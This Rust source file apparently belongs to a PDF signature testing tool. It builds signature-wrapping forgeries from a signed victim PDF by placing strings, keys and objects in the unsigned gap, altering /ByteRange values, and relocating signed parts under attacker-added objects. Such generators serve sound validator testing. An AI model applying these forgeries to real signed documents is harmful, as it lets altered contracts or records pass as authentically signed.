//! Signature wrapping: what is done in and around the gap that the signature does not cover.

use super::Attack;
use super::base::Form;
use super::forge::Forge;
use super::list::facts;

pub fn attacks(form: Form, victim: &[u8]) -> Vec<Attack> {
    let facts = facts(victim);
    let parts = facts.signature.signed.clone().unwrap();
    let gap = parts[0].end..parts[1].start;
    let digits = &victim[gap.start + 1..gap.end - 1];
    let used = digits.iter().rposition(|digit| *digit != b'0').unwrap() / 2 * 2 + 2;
    let in_gap = |inner: Vec<u8>| {
        let mut pdf = victim.to_vec();
        assert!(inner.len() <= gap.len());
        let padded = gap.start + inner.len();
        pdf[gap.start..padded].copy_from_slice(&inner);
        pdf[padded..gap.end].fill(b' ');
        pdf
    };
    let cms = hex::decode(&digits[..used]).unwrap();
    let mut all = Vec::new();
    let mut add = |name: &str, pdf: Vec<u8>| {
        all.push(Attack {
            class: "swa",
            name: name.to_owned(),
            form,
            pdf,
            cryptography_only: false,
        });
    };

    // The signed bytes stay as they are; only the gap is used.
    let mut literal = vec![b'('];
    for byte in &cms {
        match byte {
            b'(' | b')' | b'\\' => literal.extend([b'\\', *byte]),
            b'\r' => literal.extend(b"\\r"),
            _ => literal.push(*byte),
        }
    }
    literal.push(b')');
    add("literal-string", in_gap(literal));
    let short = [&b"<"[..], &digits[..used], b">"].concat();
    add("short-string", in_gap(short.clone()));
    add("key-in-gap", in_gap([&short[..], b" /Reason (khac)"].concat()));
    add(
        "comment-in-gap",
        in_gap([&short[..], b" % 5 0 obj << >> endobj"].concat()),
    );
    let spaced = [&b"<"[..], &digits[..used], b"   >"].concat();
    add("space-in-string", in_gap(spaced));
    let object = b"\n5 0 obj\n<< /Length 3 >>\nstream\n1 g\nendstream\nendobj\n";
    let with_object = in_gap([&short[..], object].concat());
    let offset = gap.start + short.len() + 1;
    add("object-in-gap", Forge::on(victim).entry(5, offset).finish());
    add("object-in-gap-with-section", {
        let tail = Forge::on(victim).entry(5, offset).finish();
        [&with_object[..], &tail[victim.len()..]].concat()
    });

    // The range itself is changed: only a weak checker hashes what the range says without looking where the gap is.
    let ranged = |numbers: [usize; 4]| {
        let start = victim
            .windows(13)
            .rposition(|window| window == b"/ByteRange [0")
            .unwrap();
        let end = victim[start..].iter().position(|byte| *byte == b']').unwrap() + start;
        let [a, b, c, d] = numbers;
        let text = format!("/ByteRange [{a} {b} {c} {d}");
        let mut pdf = victim.to_vec();
        pdf[start..end].fill(b' ');
        pdf[start..start + text.len()].copy_from_slice(text.as_bytes());
        pdf
    };
    let (a, b, rest) = (gap.start, gap.end, victim.len() - gap.end);
    add("gap-shifted-left", ranged([0, a - 10, b, rest]));
    add("gap-shifted-right", ranged([0, a, b + 10, rest - 10]));
    add("gap-inside", ranged([0, a + 2, b - 2, rest + 2]));
    add("short-coverage", ranged([0, a, b, rest - 20]));
    add("not-from-the-beginning", ranged([20, a - 20, b, rest]));
    add("beyond-the-end", ranged([0, a, b, rest + 20]));
    add("one-part", ranged([0, a, a, 0]));

    // The second signed part is moved to the end; objects and a section of the attacker take its place.
    let mut moved = victim[..gap.end].to_vec();
    moved.extend(b" >>\nendobj\n");
    moved.extend(object);
    moved.extend(&victim[gap.end..]);
    add("second-part-moved", moved);
    let update = Forge::on(victim).object(5, "<< >>").finish();
    let whole = [&update[..update.len() - 6], b"\n%%EOF\n"].concat();
    add("range-over-the-update", {
        let mut pdf = ranged([0, a, b, whole.len() - b]);
        pdf.extend(&whole[victim.len()..]);
        pdf
    });
    all
}
